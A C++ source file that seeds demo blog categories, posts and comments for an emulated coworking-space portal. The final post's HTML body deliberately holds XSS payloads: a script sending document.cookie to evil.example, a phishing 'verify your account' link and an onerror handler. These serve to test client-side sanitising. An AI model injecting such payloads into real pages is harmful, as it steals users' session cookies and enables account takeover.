// SPDX-License-Identifier: GPL-3.0-or-later
// Blog categories, posts and comments of the demo data.
#include "DemoData.h"

namespace emulator {

namespace {

const char *kCategories[] = {"Community", "Events", "Announcements", "Wellbeing", "Tech tips"};

const char *kTitles[] = {
    "Welcome to Portal Desk", "New meeting rooms on floor 3", "Summer opening hours",
    "Meet our community manager", "Coffee tasting Friday", "How to book a phone booth",
    "Yoga at lunchtime", "Our rooftop terrace is open", "Hackathon weekend recap",
    "Five tips for remote focus", "Member spotlight: Acme Studio", "Wi-Fi upgrade completed",
    "Lisbon meetup: founders breakfast", "London pitch night", "Mindful Mondays",
    "Printing made simple", "Holiday closures", "New lockers in the basement",
    "Podcast studio now bookable", "Networking drinks", "Sustainability pledge",
    "Bike storage and showers", "Quarterly community survey", "Keyboard shortcuts we love",
    "Charity run results", "Workshop: pricing your services", "Plants everywhere!",
    "Security notice: suspicious links",
};
constexpr int kPostCount = int(sizeof(kTitles) / sizeof(kTitles[0]));

const char *kCommentTexts[] = {
    "Great news, thanks!", "Can't wait to try it.", "Will there be a second session?",
    "Love this initiative 🌱", "Is it open to contacts as well?", "See you there!",
    "Thanks for organising.", "Muchas gracias 👏",
};

} // namespace

void DemoData::makeBlog()
{
    for (int c = 0; c < 5; ++c) {
        BlogCategoryRec rec;
        rec.BusinessId = 1001;
        rec.Title = QString::fromLatin1(kCategories[c]);
        rec.UniqueId = newGuid();
        rec.CreatedOn = m_epoch.addDays(-20 + c);
        rec.UpdatedOn = rec.CreatedOn;
        rec.UpdatedBy = QStringLiteral("admin@demo.test");
        blogCategories.add(rec);
        resolveNames(QStringLiteral("BlogCategory"), blogCategories.rowCount() - 1);
    }
    const QDateTime now = this->now();
    for (int i = 0; i < kPostCount; ++i) {
        BlogPostRec p;
        p.Id = 5001 + i;
        p.BusinessId = businesses.at(i % 3).Id;
        p.PostedById = 9101 + (i % 5);
        p.Title = QString::fromUtf8(kTitles[i]);
        p.SummaryText = QStringLiteral("%1 — a short summary for the news list.").arg(p.Title);
        QString body = QStringLiteral("<h2>%1</h2><p>Dear members, <strong>%1</strong> is here.</p>"
                                      "<p>Read more on <a href=\"https://portaldesk.example.com/news/%2\">our site</a>.</p>")
                           .arg(p.Title.toHtmlEscaped())
                           .arg(p.Id);
        if (i % 3 == 0)
            body += QStringLiteral("<p><img src=\"/en/blog/getImage/%1\" alt=\"%2\" width=\"320\"></p>")
                        .arg(p.Id)
                        .arg(p.Title.toHtmlEscaped());
        if (i == kPostCount - 1) // exercises client-side sanitising
            body += QStringLiteral("<script>document.location='https://evil.example/?c='+document.cookie</script>"
                                   "<p><a href=\"#\" onclick=\"steal()\">Click to verify your account</a></p>"
                                   "<img src=\"x\" onerror=\"alert(1)\">");
        p.FullText = body;
        p.ImageFileName = i % 3 == 0 ? QStringLiteral("post-%1.png").arg(p.Id) : QString();
        p.PublishDate = m_epoch.addDays(30 + 12 * i).addSecs(3600 * (i % 9));
        if (i == 5)
            p.PublishDate = now.addDays(30);   // scheduled: not public yet
        if (i == 9)
            p.UnpublishDate = now.addDays(-2); // withdrawn: not public any more
        p.ShowInHomePage = i % 4 == 0;         // "featured"
        p.ShowInHomeBanner = i % 6 == 0;
        p.AllowComments = i % 5 != 4;
        p.OnlyForMembers = i == 11;
        p.BlogCategories = {4001 + (i % 5)};
        if (i % 4 == 1)
            p.BlogCategories.append(4001 + ((i + 2) % 5));
        p.UniqueId = newGuid();
        p.CreatedOn = p.PublishDate.isValid() && p.PublishDate < now ? p.PublishDate.addDays(-1) : now.addDays(-1);
        p.UpdatedOn = p.CreatedOn.addDays(i % 4);
        p.UpdatedBy = QStringLiteral("admin@demo.test");
        blogPosts.add(p);
        resolveNames(QStringLiteral("BlogPost"), blogPosts.rowCount() - 1);

        const int comments = p.AllowComments ? int(1 + m_rng.bounded(3)) : 0;
        for (int k = 0; k < comments; ++k) {
            BlogPostCommentRec c;
            c.BusinessId = p.BusinessId;
            c.BlogPostId = p.Id;
            c.PostedById = 9101 + ((i + k + 1) % 5);
            c.Title = QStringLiteral("Re: %1").arg(p.Title);
            c.Text = QString::fromUtf8(kCommentTexts[(i + k) % 8]);
            c.Published = k != 2;
            c.UniqueId = newGuid();
            c.CreatedOn = p.CreatedOn.addDays(1).addSecs(3600 * k);
            c.UpdatedOn = c.CreatedOn;
            c.UpdatedBy = QStringLiteral("member@demo.test");
            blogPostComments.add(c);
            resolveNames(QStringLiteral("BlogPostComment"), blogPostComments.rowCount() - 1);
        }
    }
}

} // namespace emulator
